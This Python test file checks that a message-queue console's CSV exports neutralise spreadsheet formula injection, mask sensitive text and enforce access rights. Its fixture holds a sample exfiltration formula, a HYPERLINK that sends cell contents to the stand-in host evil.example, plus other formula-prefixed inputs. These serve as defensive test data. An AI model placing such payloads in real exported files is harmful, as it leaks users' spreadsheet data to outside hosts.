"""Lists as CSV: whole, masked, and no text of a stranger is a formula."""

import csv
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import httpx2
import pytest
from lxml import html

from amqsidecar.formats.csv_cell import cell
from amqsidecar.http import exports
from amqsidecar.http.access import Role
from amqsidecar.http.exports import MEMBERS_HEADERS, csv_of
from amqsidecar.http.masking import Masking
from amqsidecar.model.operation import Member
from amqsidecar.operations.listing import list_messages
from support.web.console import console_client
from support.web.console_store import dead, keep, open_store
from support.web.page import strings
from support.web.site import running_site

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"due")'


def rows_of(answer: httpx2.Response) -> list[dict[str, str]]:
    assert answer.status_code == 200, answer.text
    assert answer.headers["content-type"] == "text/csv; charset=utf-8; header=present"
    return list(csv.DictReader(answer.text.splitlines(keepends=True)))


@pytest.fixture
def client(tmp_path: Path) -> Iterator[httpx2.Client]:
    store = open_store(tmp_path / "schedule.db")
    now_ms = store._clock.now_ms()
    causes = [EVIL, " @SUM(A1)", 'a "quoted", text\nof lines', "late"]
    keep(store, [dead(n, cause, now_ms) for n, cause in enumerate(causes, 1)])
    store.close()
    with console_client(tmp_path / "schedule.db") as client:
        yield client


@pytest.mark.parametrize(
    "start", ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "  =", "\u3000=", "\ufeff=", " \u200b@"]
)
def test_no_text_is_a_formula(start: str) -> None:
    seen = start.replace("\ufeff", r"\ufeff").replace("\u200b", r"\u200b")
    assert cell(f"{start}1+1") == f"'{seen}1+1"
    member = Member(redelivery_id=f"{start}1", destination="queue://a", changed_at_ms=0)
    [row] = csv.DictReader(
        csv_of(MEMBERS_HEADERS, [member]).splitlines(keepends=True), MEMBERS_HEADERS
    )
    assert row["redelivery_id"] == f"'{seen}1"


@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
@pytest.mark.parametrize("start", [";", "\t", "\n", "\r\n", "; ", ';"'])
def test_no_text_has_a_formula_in_it_where_cells_end_elsewhere(start: str, delimiter: str) -> None:
    """Spreadsheets of many countries take a file apart at semicolons."""
    member = Member(redelivery_id="1", destination=f"a{start}=1+1;b", changed_at_ms=0)
    rows = csv.reader(
        csv_of(MEMBERS_HEADERS, [member]).splitlines(keepends=True), delimiter=delimiter
    )
    assert not [one for row in rows for one in row if one.lstrip(' "').startswith("=")]


@pytest.mark.parametrize("start", ["\0=", " \0=", "\x1b[31m=", "\x9b2J", "\x07"])
def test_no_control_character_reaches_a_terminal_or_hides_a_formula(start: str) -> None:
    shown = cell(f"{start}1+1")
    assert shown.isprintable()
    assert not shown.lstrip().startswith("=")


def test_numbers_and_plain_texts_are_as_they_are() -> None:
    assert [cell(value) for value in (-5, 0, None, "a=b;c", "")] == ["-5", "0", "", "a=b;c", ""]


def test_messages_that_match_are_a_file(client: httpx2.Client) -> None:
    page = html.fromstring(client.get("/messages?destination=orders").text)
    [address] = strings(page, "//a[contains(., 'as CSV')]/@href")
    answer = client.get(address)
    assert answer.headers["content-disposition"] == 'attachment; filename="messages.csv"'
    found = rows_of(answer)
    assert [row["id"] for row in found] == ["4", "3", "2", "1"]
    assert [row["cause"] for row in found] == [
        "late",
        'a "quoted", text\nof lines',
        "' @SUM(A1)",
        f"'{EVIL}",
    ]
    assert {row["state"] for row in found} == {"waiting"}
    assert [row["id"] for row in rows_of(client.get("/messages.csv?cause=late"))] == ["4"]
    assert client.get("/messages.csv?state=lost").status_code == 400


def test_groups_are_a_file(client: httpx2.Client) -> None:
    page = html.fromstring(client.get("/groups").text)
    [address] = strings(page, "//a[contains(., 'As CSV')]/@href")
    found = rows_of(client.get(address))
    assert len(found) == 4
    assert all(not row["cause_group"].lstrip().startswith(("=", "@")) for row in found)
    assert {row["waiting"] for row in found} == {"1"}


def test_a_list_that_is_too_long_says_so_in_its_last_line(
    client: httpx2.Client, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(exports, "ROWS_MAX", 3)
    *rows, last = rows_of(client.get("/messages.csv"))
    assert [row["id"] for row in rows] == ["4", "3", "2"]
    assert last.pop("id") == "only the first 3 rows are in this file"
    assert set(last.values()) == {""}
    monkeypatch.setattr(exports, "ROWS_MAX", 4)
    assert [row["id"] for row in rows_of(client.get("/messages.csv"))] == ["4", "3", "2", "1"]


def test_a_list_is_read_once(client: httpx2.Client, monkeypatch: pytest.MonkeyPatch) -> None:
    read: list[object] = []

    def counting(*arguments: Any, **options: Any) -> Any:
        read.append(options["after"])
        return list_messages(*arguments, **options)

    monkeypatch.setattr(exports, "PAGE_ROWS", 2)
    monkeypatch.setattr(exports, "list_messages", counting)
    assert len(rows_of(client.get("/messages.csv"))) == 4
    assert len(read) == len(set(read))


def test_masking_and_rights_are_the_same_as_elsewhere(tmp_path: Path) -> None:
    with running_site(tmp_path, Masking(patterns=["timeout after"])) as site:
        viewer = site.client("token", Role.VIEWER)
        for path in ("/messages.csv", "/api/v1/messages.csv"):
            text = viewer.get(path).text
            assert "***" in text
            assert "timeout after" not in text
        assert site.client().get("/api/v1/messages.csv").status_code == 401
        assert viewer.get("/api/v1/operations/99/members.csv").status_code == 404
